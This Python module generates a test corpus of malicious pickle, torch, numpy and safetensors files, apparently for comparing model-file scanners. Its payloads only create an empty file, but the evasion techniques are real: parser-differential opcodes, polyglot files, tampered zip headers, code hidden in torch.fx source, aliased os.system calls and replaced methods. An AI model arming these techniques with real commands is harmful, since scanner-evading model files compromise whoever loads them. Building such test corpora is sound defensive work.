"""The attack files of compare_scanners.py, by kinds.

ATTACKS is a list of (kind, name, extension, loader, bytes). Every payload only makes an empty file `ran` in the current
folder. The loader is how a victim opens the file: `pickle` is pickle.load, `stream` the same until the end of the file,
`torch` is torch.load(weights_only=False), `numpy` is numpy.load(allow_pickle=True) with every member of an .npz.
"""

import io
import pickle
import struct
import tarfile
import zipfile
import zlib

ATTACKS = []
COMMAND = "touch ran"
SOURCE = f"__import__('os').system('{COMMAND}')"


class Opcodes(bytes):
    """Bytes that are a piece of a pickle, unlike bytes that are a value in one."""


def encode(value):
    """Returns the opcodes that push a value."""
    if isinstance(value, Opcodes):
        return value
    if isinstance(value, (tuple, list)):
        return b"(" + b"".join(map(encode, value)) + (b"t" if isinstance(value, tuple) else b"l")
    if isinstance(value, dict):
        return b"(" + b"".join(encode(key) + encode(item) for key, item in value.items()) + b"d"
    if isinstance(value, str):
        return b"X" + struct.pack("<I", len(value.encode())) + value.encode()
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, (bool, type(None))):
        return {None: b"N", True: b"\x88", False: b"\x89"}[value]
    return b"J" + struct.pack("<i", value)


def named(path):
    """STACK_GLOBAL of `module name`."""
    module, name = path.split(" ")
    return Opcodes(encode(module) + encode(name) + b"\x93")


def call(function, *arguments):
    """REDUCE. The function is opcodes or `module name`."""
    function = function if isinstance(function, Opcodes) else named(function)
    return Opcodes(function + encode(arguments) + b"R")


def new(path):
    """NEWOBJ of `module name` without arguments."""
    return Opcodes(named(path) + b")\x81")


def build(value, state):
    """BUILD."""
    return Opcodes(value + encode(state) + b"b")


def extended(value, opcode, *items):
    """APPENDS, SETITEMS or ADDITEMS."""
    return Opcodes(value + b"(" + b"".join(map(encode, items)) + opcode)


def dumped(*values, protocol=4):
    """A pickle that makes values, drops them, and returns a dictionary with a number."""
    body = b"".join(encode(value) + b"0" for value in values) + encode({"step": 1})
    return b"\x80" + bytes([protocol]) + body + b"."


def returned(value):
    """A pickle that returns a value."""
    return b"\x80\x04" + encode(value) + b"."


def archive(data, name="a/data.pkl", before=b"", more=(), compression=zipfile.ZIP_STORED):
    """An archive as torch.save writes it, with `data` as its pickle, behind `before`."""
    file = io.BytesIO(before)
    file.seek(0, io.SEEK_END)
    with zipfile.ZipFile(file, "w", compression) as target:
        for member, content in [(name, data), ("a/byteorder", b"little"), *more,
                                ("a/data/0", bytes(16)), ("a/version", b"3\n")]:
            target.writestr(zipfile.ZipInfo(member), content, compression)
    return file.getvalue()


def patched(data, signature, offset, value):
    """Overwrites a field of the first header with this signature."""
    at = data.index(signature) + offset
    return data[:at] + value + data[at + len(value):]


def array(data, version=1):
    """An .npy file with an array of objects, pickled as `data`."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    length = struct.pack("<H" if version == 1 else "<I", 118)
    return b"\x93NUMPY" + bytes([version, 0]) + length + header.ljust(117) + b"\n" + data


def archive_of_arrays(*arrays, compression=zipfile.ZIP_DEFLATED):
    """An .npz file."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as target:
        for number, data in enumerate(arrays):
            target.writestr(zipfile.ZipInfo(f"arr_{number}.npy"), data, compression)
    return file.getvalue()


def tar(*members):
    """A tar of (name, content)."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=tarfile.GNU_FORMAT) as target:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            target.addfile(info, io.BytesIO(content))
    return file.getvalue()


def attack(kind, name, data, extension="pkl", loader="pickle"):
    ATTACKS.append((kind, name, extension, loader, data))


def torch_attacks(kind, rows):
    """One archive of torch for each row."""
    for name, *values in rows:
        attack(kind, name, archive(dumped(*values)), "pt", "torch")


# A call in opcodes that are older than PROTO, so that nothing announces a pickle.
OLD = b"cposix\nsystem\n(S'" + COMMAND.encode() + b"'\ntR0N."
SYSTEM = named("posix system")
RUN = call("functools partial", SYSTEM, COMMAND)
# Makes a file, too, and no list of dangerous names has it.
LOG, LOG_FILE = named("logging FileHandler"), "ran"
LOG_IT = call("functools partial", LOG, LOG_FILE)

# --- Pickles that CPython reads and other parsers do not ----------------------------------------------------
KIND = "pickles that CPython reads and other parsers stop at"
for name, start in {
    "INT that ends at a NUL": b"I7\0 is not read\n0",
    "INT behind a vertical tab": b"I\x0b12\n0",
    "INT in base 16 with a space": b"I 0x1f\n0",
    "INT with an underscore": b"I1_000\n0",
    "LONG behind a form feed": b"L\x0c5L\n0",
    "FLOAT inf that ends at a NUL": b"Finf\0x\n0",
    "PUT and GET with white space": b"Np\x0b3\n0g 3\n0",
    "READONLY_BUFFER of bytes": b"C\x03abc\x980",
    "READONLY_BUFFER of a bytearray": b"\x96\x01" + bytes(7) + b"a\x980",
    "APPENDS of nothing to None": b"N(e0",
    "SETITEMS of nothing to None": b"N(u0",
    "ADDITEMS of nothing to None": b"N(\x900",
    "BUILD of None with None": b"NNb0",
    "POP of a mark": b"(0",
    "opcode across a frame": b"\x95\x03" + bytes(7) + b"X\x02" + bytes(3) + b"ab0",
    "frame inside a frame": b"\x95\x0b" + bytes(7) + b"\x95\x01" + bytes(7) + b"N0",
    "PROTO twice": b"\x80\x02\x80\x050",
    "memo of a million": b"Nr\x40\x42\x0f\x000",
}.items():
    attack(KIND, name, (b"N" + start if name == "PROTO twice" else start) + OLD)
attack(KIND, "escapes in a name", b"Vposi\\u0078\nV\\u0073ystem\n\x93(V" + COMMAND.encode() + b"\ntR.")
attack(KIND, "names by GET", b"Vsystem\np0\n0Vposix\ng0\n\x93(V" + COMMAND.encode() + b"\ntR.")
attack(KIND, "a name of Python 2", b"ccommands\ngetoutput\n(V" + COMMAND.encode() + b"\ntR.")
attack(KIND, "OBJ, then no opcode", b"(cposix\nsystem\nV" + COMMAND.encode() + b"\no\xff")
attack(KIND, "INT of NUL in an array", array(b"I\0\n0" + OLD), "npy", "numpy")

# --- Files that are two things ------------------------------------------------------------------------------
KIND = "files that are two things, or lie about what they are"


def safetensors_and_pickle():
    """A valid safetensors file whose header is a pickle from its length to the inside of a name.

    BINBYTES of three bytes makes a length of 55 MB, and the names have 32 bytes or more, since JSON has no
    control characters. BINPUT of 0xC2 makes each opcode above 0x7F a character of UTF-8.
    """
    module = b"torch.distributed.elastic.multiprocessing.api"
    name = b"os.path.os.path.os.path.os.system"
    words = [b"U" + bytes([len(word)]) + word for word in (module, name, COMMAND.encode().ljust(40))]
    body = b"0" + words[0] + words[1] + b"q\xc2\x93" + words[2] + b"q\xc2\x85R0N."
    header = b'{"' + body + b'":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    start = b"\x80\x04B\x03\0\0\0\0"
    return start + header.ljust(struct.unpack("<Q", start)[0]) + bytes(4)


attack(KIND, "a valid safetensors file", safetensors_and_pickle())
attack(KIND, "`{` at byte 8", b"\x80\x04C\x08\0\0\0\0{\"a\"0N(e0" + OLD)
attack(KIND, "a tar", tar((OLD.decode(), b"text")))
attack(KIND, "tar of torch 0.1", tar(("storages", OLD), ("tensors", b""), ("pickle", b"")), "pt", "torch")
MAGIC = [pickle.dumps(value, 2) for value in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})]
attack(KIND, "legacy: storage keys", b"".join(MAGIC) + pickle.dumps({}, 2) + OLD, "pt", "torch")
attack(KIND, "legacy: system information", b"".join(MAGIC[:2]) + OLD, "pt", "torch")
attack(KIND, "behind another pickle", pickle.dumps({"step": 1}) + OLD, "pkl", "stream")
attack(KIND, "array of objects", array(dumped(RUN, call(RUN))), "npy", "numpy")
attack(KIND, "array of objects, version 3", array(OLD, 3), "npy", "numpy")
attack(KIND, "second array of an .npz", archive_of_arrays(array(pickle.dumps([1])), array(OLD)), "npz", "numpy")
attack(KIND, "pickle named .npy", OLD, "npy", "numpy")
EVIL, CLEAN = dumped(call(SYSTEM, COMMAND)), dumped()
LOCAL, CENTRAL = b"PK\x03\x04", b"PK\x01\x02"
for name, data in {
    "archive behind another": archive(EVIL, before=archive(CLEAN)),
    "archive behind the start of one": archive(EVIL, before=LOCAL + bytes(60)),
    "two members of a name": archive(EVIL, more=[("a/copy.pkl", CLEAN)]).replace(b"a/copy.pkl", b"a/data.pkl"),
    "member's name in capitals": archive(EVIL, name="a/DATA.PKL"),
    "deflated member": archive(EVIL, compression=zipfile.ZIP_DEFLATED),
    "wrong CRC": patched(archive(EVIL), CENTRAL, 16, b"abcd"),
    "marked as encrypted": patched(archive(EVIL), LOCAL, 6, b"\x01"),
    "other name in front of the member": patched(archive(EVIL), LOCAL, 30, b"b/note.txt"),
    "text behind the archive": archive(EVIL) + b"text" * 99,
}.items():
    attack(KIND, name, data, "pt", "torch")

# --- Source in the file -------------------------------------------------------------------------------------
KIND = "source that a torch.fx module carries"
CODE = "\ndef forward(self, x):\n    return x\n"
DEFAULT = f"\ndef forward(self, x={SOURCE}):\n    return x\n"
GRAPH_MODULE, GRAPH_MODULES = "torch.fx.graph_module reduce_graph_module", "torch.fx._lazy_graph_module"
torch_attacks(KIND, [
    ("import block", call(GRAPH_MODULE, {"_code": CODE}, f"import os\nos.system('{COMMAND}')\n")),
    ("default of an argument", call(GRAPH_MODULE, {"_code": DEFAULT}, "import torch\n")),
    ("decorator", call(GRAPH_MODULE, {"_code": f"\n@{SOURCE}{CODE}"}, "")),
    ("under another module's name", call(f"{GRAPH_MODULES} reduce_graph_module", {"_code": DEFAULT}, "")),
    ("_forward_from_src", call("torch.fx.graph_module _forward_from_src", DEFAULT, {})),
    ("_exec_with_source", call("torch.fx.graph_module _exec_with_source", SOURCE, {})),
])

# --- Names under which Python, torch and numpy have what runs code --------------------------------------------
KIND = "functions that run code, by other names"
CODE_OBJECT = call("dis _try_compile", SOURCE, "x")
ANNOTATED = build(call("argparse Namespace"), {"__annotations__": {"a": SOURCE}})
torch_attacks(KIND, [
    ("enum bltns.eval", call("enum bltns.eval", SOURCE)),
    ("tarfile bltn_open", call("tarfile bltn_open", "ran", "w")),
    ("logging os.system", call("logging os.system", COMMAND)),
    ("torch.serialization os.system", call("torch.serialization os.system", COMMAND)),
    ("dataclasses FunctionType", call(call("dataclasses FunctionType", CODE_OBJECT, {}))),
    ("torch.fx._symbolic_trace FunctionType", call(call("torch.fx._symbolic_trace FunctionType", CODE_OBJECT, {}))),
    ("dataclasses _create_fn", call("dataclasses _create_fn", "f", ["a=" + SOURCE], ["pass"])),
    ("torch.utils.checkpoint get_type_hints", call("torch.utils.checkpoint get_type_hints", ANNOTATED)),
    ("importlib.metadata import_module",
     call(call(call("operator attrgetter", "system"), call("importlib.metadata import_module", "os")), COMMAND)),
    ("numpy.core _ufunc_reconstruct", call(call("numpy.core _ufunc_reconstruct", "os", "system"), COMMAND)),
    ("torch _import_dotted_name", call(call("torch _import_dotted_name", "os.system"), COMMAND)),
    ("torch SubprocessHandler", call(
        "torch.distributed.elastic.multiprocessing.subprocess_handler.subprocess_handler SubprocessHandler",
        "touch", ("ran",), {}, None, None, 0, None)),
    ("torch run_compile_cmd", call("torch._inductor.cpp_builder run_compile_cmd", COMMAND, ".")),
    ("torch collect_env", call("torch.utils.collect_env run", COMMAND)),
    ("logging FileHandler", call(LOG, LOG_FILE)),
    ("numpy memmap", call("numpy memmap", "ran", "u1", "w+", 0, (1,))),
    ("torch UntypedStorage.from_file", call("torch UntypedStorage.from_file", "ran", True, 4)),
    ("sqlite3 dbapi2.Connection", call("sqlite3 dbapi2.Connection", "ran")),
    ("zipfile ZipFile", call("zipfile ZipFile", "ran", "w")),
])

# --- Methods that Python calls ------------------------------------------------------------------------------
KIND = "objects whose methods the file replaces"
ORDERED, SPACE = call("collections OrderedDict"), call("argparse Namespace")
# Its last argument is free, since the method gets one.
SPAWN = call("functools partial", named("os spawnlp"), 0, "sh", "sh", "-c", COMMAND)
STORAGE = named("torch FloatStorage")
# torch asks a location, which has to be text, for "mps".
TEXT = build(call("email._header_value_parser Terminal", "disk", ""), {"startswith": SPAWN})
LOCATION = Opcodes(encode(("storage", STORAGE, "0", TEXT, 4)) + b"Q")
torch_attacks(KIND, [
    ("keys, called by Counter", call("collections Counter", build(ORDERED, {"keys": RUN}))),
    ("keys, called by dict", call("builtins dict", build(SPACE, {"keys": LOG_IT}))),
    ("keys, called by OrderedDict", call("collections OrderedDict", build(SPACE, {"keys": RUN}))),
    ("items, called by ModuleDict", call("torch.nn.modules.container ModuleDict", build(ORDERED, {"items": LOG_IT}))),
    ("startswith of a location", LOCATION),
    ("__setstate__, then BUILD", build(build(SPACE, {"__setstate__": SYSTEM}), COMMAND)),
    ("extend, then APPENDS", extended(build(SPACE, {"extend": named("subprocess call")}), b"e", "touch", "ran")),
    ("append, then APPENDS", extended(build(SPACE, {"append": LOG}), b"e", LOG_FILE)),
    ("add, then ADDITEMS", extended(build(SPACE, {"add": SYSTEM}), b"\x90", COMMAND)),
    ("keys, called by |", call("functools reduce", named("_operator or_"), [{}, build(ORDERED, {"keys": RUN})])),
    ("keys, called by defaultdict", call("collections defaultdict", None, build(ORDERED, {"keys": RUN}))),
    ("close, called by __del__", build(new("torch.hub tqdm"), {"close": RUN})),
    ("_key, called by a key's __hash__", {build(new("importlib.metadata EntryPoint"), {"_key": RUN}): 1}),
    ("what a key's __hash__ asks",
     {build(new("torch.types SymInt"), {"node": build(ORDERED, {"is_nested_int": RUN})}): 1}),
])
# torch compares, iterates and looks into what the small pickles of its older formats hold.
VERSION = build(new("numpy.lib NumpyVersion"), {"_compare": SPAWN})
VALUES = build(new("torch.nn.modules.container ModuleList"), {"_modules": build(ORDERED, {"values": RUN})})
START = call("functools partial", named("subprocess Popen"), ["touch", "ran"])
for name, data in {
    "_compare, called by !=": returned(build(new("numpy.lib NumpyVersion"), {"_compare": START})),
    "values, called for storage keys": b"".join(MAGIC) + pickle.dumps({}, 2) + returned(VALUES),
    "values, called for a tar's storages": tar(
        ("storages", pickle.dumps(1, 2) + returned(VALUES)), ("tensors", b""), ("pickle", b"")),
    "_compare, called for a tar's location": tar(
        ("storages", pickle.dumps(1, 2) + returned(("0", VERSION, build(SPACE, {"_dtype": named("torch uint8")})))
         + bytes(8)), ("tensors", b""), ("pickle", b"")),
}.items():
    attack(KIND, name, data, "pt", "torch")

# --- Functions that call what they get ----------------------------------------------------------------------
KIND = "functions that call what they are given"
DEQUE = "collections deque"
torch_attacks(KIND, [
    ("copyreg._reconstructor", call("copyreg _reconstructor", LOG, LOG, LOG_FILE)),
    ("a partial that is called", call(LOG_IT)),
    ("torch._tensor._rebuild_from_type_v2",
     call("torch._tensor _rebuild_from_type_v2", LOG, named("torch Tensor"), (LOG_FILE,), None)),
    ("operator.methodcaller", call(call("operator methodcaller", "system", COMMAND), named("logging os"))),
    ("operator.call", call("operator call", LOG, LOG_FILE)),
    ("map in a deque", call(DEQUE, call("builtins map", LOG, [LOG_FILE]))),
    ("itertools.starmap", call(DEQUE, call("itertools starmap", SYSTEM, [(COMMAND,)]))),
    ("a missing key of a defaultdict", call("operator getitem", call("collections defaultdict", LOG_IT), 1)),
    ("atexit.register", call("atexit register", LOG, LOG_FILE)),
    ("tree_map of torch", call("torch.utils._pytree tree_map", LOG, [LOG_FILE])),
    ("numpy.frompyfunc", call(call("numpy frompyfunc", LOG, 1, 1), LOG_FILE)),
])

# --- Pickles in bytes ---------------------------------------------------------------------------------------
KIND = "pickles in values of bytes, and who loads them"
LOAD, LATIN = "torch.storage _load_from_bytes", "_codecs encode"
torch_attacks(KIND, [
    ("_load_from_bytes, protocol 0", call(LOAD, OLD)),
    ("_load_from_bytes of an archive", call(LOAD, archive(EVIL))),
    ("_load_from_bytes twice", call(LOAD, archive(dumped(call(LOAD, archive(EVIL)))))),
    ("_load_from_bytes of text", call(LOAD, call(LATIN, OLD.decode(), "latin1"))),
    ("_load_from_bytes of compressed bytes", call(LOAD, call("_codecs decode", zlib.compress(OLD), "zlib"))),
    ("numpy's read_array", call("numpy.lib.format read_array", call("_io BytesIO", array(OLD)), True)),
    ("torch's basichandlers", call("torch.utils.data.datapipes.utils.decoder basichandlers", "pyd", OLD)),
    ("multiprocessing.reduction", call("multiprocessing.reduction ForkingPickler.loads", OLD)),
    ("torch.multiprocessing.queue", call("torch.multiprocessing.queue ForkingPickler.loads", OLD)),
])

# --- Modules that act ---------------------------------------------------------------------------------------
KIND = "modules that act when they are imported"
# It opens a browser; which one the environment says.
attack(KIND, "antigravity, protocol 0", b"cantigravity\nwebbrowser\n0N.")
attack(KIND, "antigravity, mentioned", dumped(named("antigravity webbrowser")))
attack(KIND, "antigravity, a name it lacks", dumped(named("antigravity Net")))
attack(KIND, "antigravity in an array", array(dumped(named("antigravity geohash"))), "npy", "numpy")
torch_attacks(KIND, [("antigravity in an archive", named("antigravity geohash"))])
